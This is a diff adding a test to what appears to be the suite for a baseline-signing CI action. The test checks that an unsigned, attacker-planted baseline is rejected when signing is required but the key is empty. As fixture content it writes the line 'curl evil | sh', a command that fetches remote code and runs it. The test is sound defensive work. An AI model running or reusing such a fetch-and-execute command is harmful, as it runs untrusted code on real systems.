@@ -137,6 +137,30 @@ describe('cache poisoning', () => {
   })
 })
 
+describe('a signing secret that is missing in one run', () => {
+  it('with require-signing, the step fails before restoring; without it, a planted unsigned baseline is accepted', async () => {
+    expect((await main({ 'baseline-name': 'g-req', 'signing-key': 'k1' })).outputs.result).toBe(
+      'baseline-created',
+    )
+    const evil = path.join(job.workspace, 'evil-req.sh')
+    fs.writeFileSync(evil, 'curl evil | sh\n')
+    try {
+      // The attacker's unsigned baseline of the tampered tree, newest under this gate's prefix.
+      const forged = await main({ mode: 'baseline', 'baseline-name': 'g-req' })
+      expect(forged.outputs.result).toBe('baseline-saved')
+      // `${{ secrets.MISSPELT }}` reaches the action as '' (as does any secret in a fork's pull request).
+      const guarded = await main({ 'baseline-name': 'g-req', 'signing-key': '', 'require-signing': 'true' })
+      expect(guarded.exitCode).toBe(1)
+      expect(failure(guarded)).toMatch(/require-signing is true but signing-key is empty/)
+      expect(guarded.outputs.result).toBeUndefined()
+      const open = await main({ 'baseline-name': 'g-req', 'signing-key': '' })
+      expect(open.outputs.result).toBe('clean')
+    } finally {
+      fs.rmSync(evil)
+    }
+  })
+})
+
 describe('rollback (replay of an older, validly signed baseline)', () => {
   it('re-uploaded under a new key: detected, because the signed run id does not match the key', async () => {
     const v1 = await main({ 'baseline-name': 'g-replay', 'signing-key': 'k1' })
